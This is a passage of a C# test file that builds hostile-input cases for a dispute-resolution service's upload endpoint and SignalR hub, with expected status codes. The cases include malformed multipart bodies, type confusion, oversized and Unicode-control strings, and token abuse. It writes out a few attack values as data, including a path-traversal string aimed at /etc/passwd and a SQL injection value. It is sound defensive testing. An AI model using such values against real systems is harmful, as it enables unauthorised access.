        yield return Upload("a JPEG header claiming 65535 x 65535 pixels", [.. Part("bomb.jpg", "image/jpeg", jpegHuge), .. End()], null);
        yield return Upload("a zip named report.pdf", [.. Part("report.pdf", "application/pdf", zip), .. End()], 415);
        yield return Upload("an SVG with a script and a NUL", [.. Part("x.svg", "image/svg+xml", svg), .. End()], 415);
        yield return Upload("text with control characters", [.. Part("chat.txt", "text/plain", html), .. End()], 415);
        yield return Upload("an empty file", [.. Part("empty.txt", "text/plain", []), .. End()], 400);
        yield return Upload("no file part", End(), 400);
        yield return Upload("two file parts", [.. Part("a.txt", "text/plain", "one"u8.ToArray()), .. Part("b.txt", "text/plain", "two"u8.ToArray()), .. End()], 400);
        yield return Upload("a body that is not multipart", "{\"file\":\"aGk=\"}"u8.ToArray(), 415, "application/json");
        yield return Upload("a multipart body without a boundary", [.. Part("a.txt", "text/plain", "hi"u8.ToArray()), .. End()], 415, "multipart/form-data");
        yield return Upload("a boundary of 200 characters", [.. Part("a.txt", "text/plain", "hi"u8.ToArray()), .. End()], 415, "multipart/form-data; boundary=" + new string('b', 200));
        yield return Upload("a part that never ends", Encoding.ASCII.GetBytes($"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.txt\"\r\n\r\nhello"), 400);
    }

    // ---- Hub ----

    private enum ArgKind { Id, Text, Enum, Amount, Seq, Int, Bool, Date, City, OptionalText }

    private sealed record Arg(ArgKind Kind, object? Valid);

    private sealed record HubMethod(string Name, string As, Arg[] Args);

    private static Arg Id(string id = Negotiating) => new(ArgKind.Id, id);

    private static readonly HubMethod[] HubMethods =
    [
        new("JoinDispute", AsConsumer, [Id(), new(ArgKind.Seq, 0L)]),
        new("LeaveDispute", AsConsumer, [Id()]),
        new("SendMessage", AsConsumer, [Id(), new(ArgKind.Text, "hello")]),
        new("MakeOffer", AsConsumer, [Id(), new(ArgKind.Enum, "PartialRefund"), new(ArgKind.Amount, 60m)]),
        new("AcceptOffer", AsConsumer, [Id(), new(ArgKind.Seq, 2L)]),
        new("RejectOffer", AsConsumer, [Id(), new(ArgKind.Seq, 2L)]),
        new("Escalate", AsConsumer, [Id()]),
        new("Withdraw", AsConsumer, [Id()]),
        new("ConfirmRemedy", AsConsumer, [Id()]),
        new("RequestEvidence", AsMediator, [Id(InMediation), new(ArgKind.Enum, "merchant"), new(ArgKind.Text, "The delivery photos."), new(ArgKind.Date, new DateTimeOffset(2099, 1, 1, 0, 0, 0, TimeSpan.Zero))]),
        new("Propose", AsMediator, [Id(InMediation), new(ArgKind.Enum, "PartialRefund"), new(ArgKind.Amount, 80m), new(ArgKind.Bool, false), new(ArgKind.Text, "Half each.")]),
        new("AcceptProposal", AsMediationConsumer, [Id(InMediation), new(ArgKind.Seq, 9L)]),
        new("RejectProposal", AsMediationConsumer, [Id(InMediation), new(ArgKind.Seq, 9L)]),
        new("Rule", AsMediator, [Id(InMediation), new(ArgKind.Enum, "Quality"), new(ArgKind.Enum, "Merchant"), new(ArgKind.Enum, "PartialRefund"),
            new(ArgKind.Amount, 80m), new(ArgKind.Bool, false), new(ArgKind.Text, "The photos show crushed tins.")]),
        new("ShipReturn", AsConsumer, [Id(), new(ArgKind.Text, "SF Express"), new(ArgKind.Text, "SF1234567")]),
        new("AcknowledgeReturn", AsMerchant, [Id(), new(ArgKind.Enum, "AsExpected"), new(ArgKind.OptionalText, "Received.")]),
        new("GiveFeedback", AsConsumer, [Id(), new(ArgKind.Int, 5), new(ArgKind.OptionalText, "Quick.")]),
        new("FollowQueue", AsMediator, [new(ArgKind.City, City)]),
        new("Typing", AsConsumer, [Id()]),
        new("MarkRead", AsConsumer, [Id(), new(ArgKind.Seq, 3L)]),
        new("FollowMerchant", AsMerchant, [Id(Merchant)]),
        new("FollowConsumer", AsConsumer, [Id(Consumer)]),
    ];

    private static object Nested(int depth)
    {
        object value = "x";
        for (var i = 0; i < depth; i++) value = new[] { value };
        return value;
    }

    /// <summary>A stand-in for a JSON object or a MessagePack map in an argument.</summary>
    private static Dictionary<string, int> AnObject() => new() { ["value"] = 1 };

    private static IEnumerable<HostileCase> HubCases()
    {
        foreach (var method in HubMethods)
        {
            var valid = method.Args.Select(a => a.Valid).ToArray();
            foreach (var protocol in new[] { "json", "messagepack" })
            {
                HostileCase Call(string what, HostileCategory category, object?[] args, int? status) =>
                    new($"hub {method.Name} ({protocol}): {what}", category, method.As)
                    {
                        HubMethod = method.Name, Arguments = args, Protocol = protocol, Status = status,
                    };
                object?[] With(int index, object? value) => valid.Select((v, i) => i == index ? value : v).ToArray();

                for (var i = 0; i < method.Args.Length; i++)
                {
                    var arg = method.Args[i];
                    var n = $"argument {i + 1}";
                    // Binding: the wrong type, the count; the gap was SignalR's generic "Error binding arguments" here.
                    if (arg.Kind is ArgKind.Amount or ArgKind.Seq or ArgKind.Int or ArgKind.Bool or ArgKind.Date)
                    {
                        yield return Call($"{n} null", HostileCategory.WrongType, With(i, null), 400);
                        if (arg.Kind != ArgKind.Date) yield return Call($"{n} a word", HostileCategory.WrongType, With(i, "lots"), 400)
                            with { Mentions = protocol == "json" ? $"an argument of {method.Name} must be {(arg.Kind == ArgKind.Bool ? "true or false" : "a number")}" : method.Name };
                        yield return Call($"{n} an object", HostileCategory.WrongType, With(i, AnObject()), 400);
                        yield return Call($"{n} an array", HostileCategory.WrongType, With(i, new[] { 1, 2 }), 400);
                        if (arg.Kind is ArgKind.Seq or ArgKind.Int) yield return Call($"{n} a fraction", HostileCategory.WrongType, With(i, 1.5), 400);
                    }
                    else
                    {
                        yield return Call($"{n} a number", HostileCategory.WrongType, With(i, 5), 400)
                            with { Mentions = protocol == "json" ? $"an argument of {method.Name} must be a string" : $"the arguments do not fit {method.Name}" };
                        yield return Call($"{n} an object", HostileCategory.WrongType, With(i, AnObject()), 400);
                        yield return Call($"{n} an array", HostileCategory.WrongType, With(i, new[] { "a", "b" }), 400);
                        yield return Call($"{n} true", HostileCategory.WrongType, With(i, true), 400);
                    }
                    if (protocol != "json") continue; // values below reach the method the same way through either protocol

                    switch (arg.Kind)
                    {
                        case ArgKind.Id or ArgKind.City:
                            yield return Call($"{n} null", HostileCategory.WrongType, With(i, null), null);
                            foreach (var (name, value) in HostileIds)
                                yield return Call($"{n} {name}", Category(name), With(i, value), null);
                            yield return Call($"{n} a path", HostileCategory.PathTrick, With(i, "../../etc/passwd"), null);
                            break;
                        case ArgKind.Text or ArgKind.OptionalText:
                            if (arg.Kind == ArgKind.Text) yield return Call($"{n} null", HostileCategory.WrongType, With(i, null), null);
                            yield return Call($"{n} of 10,000 characters", HostileCategory.HugeString, With(i, Huge), null);
                            yield return Call($"{n} only zero-width characters", HostileCategory.Unicode, With(i, "\u200B\u200D\uFEFF"), null);
                            yield return Call($"{n} only NULs", HostileCategory.Unicode, With(i, "\0\0"), null);
                            yield return Call($"{n} only bidi controls", HostileCategory.Unicode, With(i, "\u202E\u2066"), null);
                            break;
                        case ArgKind.Enum:
                            yield return Call($"{n} null", HostileCategory.WrongType, With(i, null), null);
                            yield return Call($"{n} two names", HostileCategory.Injection, With(i, "FullRefund,Repair"), null);
                            yield return Call($"{n} a number in a string", HostileCategory.Injection, With(i, "3"), null);
                            yield return Call($"{n} SQL", HostileCategory.Injection, With(i, "' OR '1'='1"), null);
                            break;
                        case ArgKind.Amount:
                            yield return Call($"{n} -1", HostileCategory.Amount, With(i, -1m), null);
                            yield return Call($"{n} with 3 decimals", HostileCategory.Amount, With(i, 1.005m), null);
                            yield return Call($"{n} 10,000,000.01", HostileCategory.Amount, With(i, 10_000_000.01m), null);
                            yield return Call($"{n} 1e30", HostileCategory.Amount, With(i, 1e30), 400);
                            yield return Call($"{n} decimal's largest", HostileCategory.Amount, With(i, decimal.MaxValue), null);
                            break;
                        case ArgKind.Seq:
                            yield return Call($"{n} -1", HostileCategory.Number, With(i, -1L), null);
                            yield return Call($"{n} past long", HostileCategory.Number, With(i, 1e20), 400);
                            if (method.Name != "JoinDispute") yield return Call($"{n} long's largest", HostileCategory.Number, With(i, long.MaxValue), null);
                            break;
                        case ArgKind.Int:
                            yield return Call($"{n} 0", HostileCategory.Number, With(i, 0), null);
                            yield return Call($"{n} 6", HostileCategory.Number, With(i, 6), null);
                            yield return Call($"{n} past int", HostileCategory.Number, With(i, 2147483648L), 400);
                            break;
                        case ArgKind.Date:
                            yield return Call($"{n} February 30th", HostileCategory.WrongType, With(i, "2026-02-30T10:00:00Z"), 400);
                            yield return Call($"{n} in the past", HostileCategory.WrongType, With(i, "2001-01-01T00:00:00Z"), null);
                            break;
                    }
                }
                // Past the protocol's own depth limit (JSON 64, MessagePack 500): refused as an argument, the connection kept.
                yield return Call("argument 1 nested deep in arrays", HostileCategory.DeepNesting, With(0, Nested(protocol == "json" ? 100 : 1000)), 400)
                    with { Mentions = protocol == "json" ? $"an argument of {method.Name} is nested more than 64 levels deep" : method.Name };
                yield return Call("one argument too few", HostileCategory.ArgumentCount, valid[..^1], 400);
                yield return Call("one argument too many", HostileCategory.ArgumentCount, [.. valid, "extra"], 400);
                if (protocol == "json" && valid.Length > 1) yield return Call("no arguments", HostileCategory.ArgumentCount, [], 400);
            }
        }
        // The connection itself, as a browser opens it: the token in access_token, on negotiate and on the WebSocket.
        foreach (var who in HubMethods.Select(m => m.As).Distinct())
            foreach (var kind in BadTokens.Kinds.Keys)
                yield return new HostileCase($"hub connection of the {who}: access_token {kind}", HostileCategory.Token, who)
                {
                    HubQuery = "access_token={token}", BadToken = kind, Status = 401,
                };
        yield return new HostileCase("hub connection: access_token given twice", HostileCategory.Token, AsConsumer)
        {
            HubQuery = "access_token={valid}&access_token={valid}", Status = 401,
        };
        yield return new HostileCase("hub connection: access_token empty", HostileCategory.Token, AsConsumer) { HubQuery = "access_token=", Status = 401 };
        yield return new HostileCase("hub connection: development identity in the query", HostileCategory.Identity, AsConsumer)
        {
            HubQuery = "dev-user=c-hostile-n&dev-role=ops", Status = 401,
        };
        foreach (var protocol in new[] { "json", "messagepack" })
            yield return new HostileCase($"hub Refund ({protocol}): a method that does not exist", HostileCategory.Injection, AsConsumer)
            {
                HubMethod = "Refund", Arguments = [Negotiating], Protocol = protocol, Status = 404,
            };
    }
}
